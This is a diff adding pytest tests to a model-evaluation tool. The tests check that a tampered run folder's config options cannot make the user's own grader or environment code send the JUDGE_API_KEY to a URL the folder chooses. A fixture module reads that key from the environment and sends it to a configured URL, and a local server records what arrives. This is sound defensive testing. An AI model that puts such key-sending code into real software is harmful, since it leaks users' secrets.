@@ -7,7 +7,10 @@ import shutil
 import stat
 import sys
 from collections.abc import Callable, Iterator, Sequence
+from dataclasses import fields
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from threading import Thread
 from typing import Any
 
 import pytest
@@ -19,7 +22,7 @@ from paint.config.run_folder import read_run, read_run_json, unsigned_code
 from paint.config.schema import Config
 from paint.core import trust
 from paint.core.errors import ConfigError
-from paint.core.extensions import load_object
+from paint.core.extensions import load_object, option_fields
 from paint.core.trust import UntrustedError, begin_call, is_signed, sign, vouch_for
 from paint.evaluation.store import recorded_engines
 from paint.resolve.check import check_config
@@ -322,6 +325,141 @@ def test_run_without_a_key_says_so_and_needs_trust(
     with pytest.raises(UntrustedError):
         paint.resume(run, steps=2)
     paint.resume(run, steps=2, trust=True)
+
+
+CALLER = """
+import os
+from dataclasses import dataclass
+from urllib.request import Request, urlopen
+
+@dataclass(frozen=True)
+class Options:
+    url: str = ""
+    model: str = "small"
+
+def send(options):
+    if options.url:
+        urlopen(Request(options.url, headers={"Authorization": os.environ["JUDGE_API_KEY"]}))
+
+def grade(completion, row, options: Options):
+    send(options)
+    return 1.0
+
+class Answers:
+    options: Options
+    reward = 1.0
+    def reset(self, row, seed):
+        send(self.options)
+    def step(self, messages, completion):
+        send(self.options)
+        return None
+"""
+"""A module of the user's own, which sends a key to the address that it is told."""
+
+
+@pytest.fixture
+def address() -> Iterator[tuple[str, list[str]]]:
+    """A server of a stranger's, and the keys that it got."""
+    keys: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            keys.append(self.headers["Authorization"])
+            self.send_response(200)
+            self.end_headers()
+
+        def log_message(self, *_: Any) -> None:
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
+        Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_address[1]}/", keys
+        server.shutdown()
+
+
+NAMED: dict[str, tuple[dict[str, Any], list[str]]] = {
+    "eval grader": (
+        {"grading": {"grader": ["mine:grade"]}},
+        ["eval", "../sent", *SOME, "--grading.grader", "mine:grade"],
+    ),
+    "eval environment": (
+        {"conversation": {"environment": "mine:Answers"}},
+        ["eval", "../sent", *SOME, "--conversation.environment", "mine:Answers"],
+    ),
+    "chat environment": (
+        {"conversation": {"environment": "mine:Answers"}},
+        ["chat", "../sent", "--environment", "mine:Answers", "--max-new-tokens", "4"],
+    ),
+}
+
+
+@pytest.mark.parametrize("case", NAMED)
+def test_named_code_of_a_strangers_run_takes_no_options_of_it(
+    case: str,
+    trained: Path,
+    address: tuple[str, list[str]],
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    forgetful: None,
+) -> None:
+    url, keys = address
+    shutil.copytree(trained, tmp_path / "sent")
+    [(section, settings)] = NAMED[case][0].items()
+    settings = settings | {"options": {"url": url, "model": "small"}}
+    tamper(tmp_path / "sent", {section: settings})
+    own = tmp_path / "own"
+    own.mkdir()
+    (own / "mine.py").write_text(CALLER)
+    monkeypatch.chdir(own)
+    monkeypatch.setenv("JUDGE_API_KEY", "the-key-of-the-user")
+    monkeypatch.setattr("sys.stdin", io.StringIO("What is 1 + 1?\n"))
+    line = NAMED[case][1]
+    assert main(line) == 0, capsys.readouterr()
+    assert keys == []
+    if line[0] == "eval":
+        said = "".join(capsys.readouterr())
+        assert f"its {section}.options are not taken" in said
+        assert said.count("are not taken") == 1
+        assert f"--{section}.options.url" in said
+        assert "model" not in said.partition("are not taken")[2].partition(";")[0]  # the default
+        assert main([*line, f"--{section}.options.url", url, "--output-dir", "given"]) == 0
+        assert set(keys) == {"the-key-of-the-user"}
+        keys.clear()
+        assert main([*line, "--trust", "--output-dir", "trusted"]) == 0
+        assert set(keys) == {"the-key-of-the-user"}
+
+
+@pytest.mark.parametrize(
+    ("section", "key", "owner"),
+    [
+        (section.name, key, owner)
+        for section in fields(Config)
+        for key, owner in option_fields(type(getattr(Config(), section.name))).items()
+    ],
+)
+def test_run_read_has_the_options_of_a_strangers_code_where_it_is_trusted_alone(
+    section: str, key: str, owner: str, trained: Path, tmp_path: Path
+) -> None:
+    folder = tmp_path / "sent"
+    shutil.copytree(trained, folder)
+    value = getattr(getattr(Config(), section), owner)
+    name = ["notes:f"] if isinstance(value, tuple) else "notes:f"
+    tamper(folder, {section: {owner: name, key: {"url": "http://127.0.0.1:9"}}})
+
+    def options() -> dict[str, Any]:
+        return dict(getattr(getattr(read_run(folder), section), key))
+
+    assert options() == {}
+    with begin_call():
+        vouch_for(["notes:f"])
+        assert options() == {}
+        trust.trust_records()
+        assert options() == {"url": "http://127.0.0.1:9"}
+    table = read_run_json(folder)
+    table["signature"] = sign(table["config"])
+    (folder / "run.json").write_text(json.dumps(table))
+    assert options() == {"url": "http://127.0.0.1:9"}
 
 
 SETTINGS = {"grading": {"grader": ["mine:grade"], "options": {"x": 1.5, "names": ["é"]}}}
